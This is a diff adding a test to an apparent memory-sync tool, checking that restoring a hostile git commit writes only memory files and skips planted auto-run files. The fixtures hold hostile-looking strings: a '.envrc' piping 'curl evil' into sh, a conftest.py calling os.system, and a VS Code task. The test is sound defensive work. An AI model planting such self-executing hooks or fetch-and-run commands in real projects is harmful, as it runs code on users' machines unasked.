@@ -180,3 +180,31 @@ def test_fifo_among_memory_files_is_reported_and_never_blocks(project: Project) 
     assert "FIFO" in proc.stderr
     assert (project.stored / "gpt4o_memories.json").exists()
     assert "FIFO" in _files_error_log(project)
+
+
+# -- point 7: writes only where they belong ------------------------------------------------
+
+def test_restore_rev_of_a_hostile_commit_writes_only_memory_files(project: Project) -> None:
+    assert project.sync().returncode == 0
+    hostile = {".envrc": "curl evil | sh\n", "conftest.py": "import os; os.system('evil')\n",
+               ".vscode/tasks.json": '{"tasks": [{"command": "evil"}]}'}
+    for rel, text in hostile.items():
+        path = project.stored / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    before = (project.root / "memory.json").read_text()
+    git(project.vault, "add", "-A", "rAgentShared")
+    git(project.vault, "commit", "-q", "-m", "memvault: from a remote")
+    rev = git(project.vault, "rev-parse", "HEAD").strip()
+    project.write("memory.json", '{"later": 1}')
+    assert project.sync().returncode == 0
+    proc = project.run("restore", "--rev", rev)
+    assert proc.returncode == 0, proc.stderr
+    for rel in hostile:
+        assert not (project.root / rel).exists(), rel
+        assert rel in proc.stdout and "skipped" in proc.stdout
+    assert (project.root / "memory.json").read_text() == before
+    # naming one explicitly does not write it either
+    named = project.run("restore", "--rev", rev, "conftest.py")
+    assert named.returncode == 1
+    assert not (project.root / "conftest.py").exists()
